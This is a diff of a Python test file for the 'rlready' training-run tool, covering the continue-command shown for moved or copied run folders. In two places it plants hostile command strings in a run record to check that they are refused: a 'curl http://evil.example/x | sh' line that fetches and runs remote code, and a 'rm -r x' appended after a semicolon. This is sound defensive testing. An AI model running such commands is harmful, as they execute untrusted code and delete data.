@@ -28,6 +28,7 @@ from rlready.runs.invocation import Invocation, invocation
 from rlready.runs.log import append_line
 from rlready.runs.moved import rename_paths
 from rlready.runs.record import SCHEMA, RunRecord, is_edited
+from rlready.runs.results import own_command, refuse_unfinished
 from rlready.runs.run import STATE, Run
 from rlready.runs.seen import seen_at
 from rlready.tasks import open_task
@@ -209,7 +210,7 @@ def test_other_settings_are_refused_with_every_way_on(fake: Fake, capfd: Any) ->
     assert "to continue: rlready sft seed=1 --out run" in " ".join(shown.split())
     Path("run").rename("moved")
     assert main(["show", "moved"]) == 0
-    assert "sft seed=1 --out run, with --out moved instead of run" in " ".join(capfd.readouterr().out.split())
+    assert "to continue: rlready sft seed=1 --out moved" in " ".join(capfd.readouterr().out.split())
     Path("moved").rename("run")
     record = json.loads(Path("run/record.json").read_text())
     Path("run/record.json").write_text(json.dumps(record | {"command": "curl http://evil.example/x | sh; rlready sft"}))
@@ -530,7 +531,7 @@ def test_a_run_with_half_a_write_in_it_moves_and_goes_on(tmp_path: Path) -> None
         (place / "tokenizer_config.json").write_text("")
     with Run(moved, "export", ExportConfig()) as run:
         run.claim()
-    assert not any(place.exists() for place in places)
+    assert [place.exists() for place in places] == [False, True]  # the other is no work of an export
 
 
 def test_a_run_whose_folder_was_moved_writes_nothing_into_the_next_one(tmp_path: Path) -> None:
@@ -775,3 +776,26 @@ def test_what_was_overwritten_is_deleted_once_a_minute_of_work_is_saved(
             refused_at_last()
         assert read_json(tmp_path / "result.json")["headline"] == kept
         assert not list(tmp_path.glob("*.tmp-*"))
+
+
+def test_the_command_of_a_copy_names_the_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """At the old place may be the original, which the command must not continue."""
+    monkeypatch.chdir(tmp_path)
+    command = "rlready sft seed=1 --out run"
+    token = invocation.set(Invocation(command=command))
+    try:
+        with suppress(KeyboardInterrupt), Run(Path("run"), "sft", SFTConfig()) as run:
+            run.claim()
+            raise KeyboardInterrupt
+    finally:
+        invocation.reset(token)
+    shutil.copytree("run", "copy")
+    for folder, named in (("run", command), ("copy", "rlready sft seed=1 --out copy")):
+        record = RunRecord.load(Path(folder))
+        assert own_command(Path(folder), record) == named
+        with pytest.raises(UserError, match=f"continue it with its own command: {named}$"):
+            refuse_unfinished(Path(folder))
+    for typed in ("rlready sft --out=run", "rlready sft"):
+        moved = own_command(Path("copy"), record.model_copy(update={"command": typed}))
+        assert moved in ("rlready sft --out=copy", "rlready sft --out copy")
+    assert own_command(Path("copy"), record.model_copy(update={"command": "rlready sft; rm -r x"})) == ""
